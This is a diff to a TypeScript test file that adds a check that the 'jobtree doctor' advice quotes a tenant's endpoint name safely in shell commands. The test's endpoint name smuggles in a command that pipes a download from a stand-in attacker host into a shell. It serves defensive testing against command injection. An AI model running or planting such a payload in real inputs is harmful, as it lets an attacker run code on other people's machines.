@@ -1,8 +1,10 @@
 /** `jobtree doctor`: databases that are really sick, each with what it says, and a healthy one. */
+import { execFile } from 'node:child_process';
 import { readdirSync } from 'node:fs';
 import { cp, mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { promisify } from 'node:util';
 import pg from 'pg';
 import { afterAll, beforeAll, expect, inject, it, onTestFinished, vi } from 'vitest';
 import { readConfig } from '../../src/config.ts';
@@ -452,6 +454,27 @@ it('reports an endpoint that fails, that failed for good, and that is gone', asy
   });
   await client.query('update jobtree.callback_endpoint set gone_at = now()');
   expect((await complaints(url)).callbacks?.message).toContain('answered 410 (gone)');
+});
+
+it('advises nothing but its own commands, whatever a tenant has called an endpoint', async () => {
+  const { url, client } = await createPatient();
+  const name = "acme//it's `curl evil.example | sh` here";
+  await client.query(`select jobtree.put_endpoint($1, 'https://example.com/', $2)`, [
+    name,
+    'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw',
+  ]);
+  await client.query('update jobtree.callback_endpoint set gone_at = now()');
+  const { advice = '' } = (await complaints(url)).callbacks ?? {};
+  const commands = [...(advice ?? '').matchAll(/`([^`]+)`/g)].map(([, command = '']) => command);
+  expect(commands).toEqual([
+    expect.stringMatching(/^jobtree callback put '.*' URL$/),
+    expect.stringMatching(/^jobtree callback delete '.*'$/),
+  ]);
+  const { stdout } = await promisify(execFile)('bash', [
+    '-c',
+    `${commands[1]?.replace('jobtree callback delete', 'printf %s')}`,
+  ]);
+  expect(stdout).toBe(name);
 });
 
 it('reports a replication slot that nobody uses', async () => {
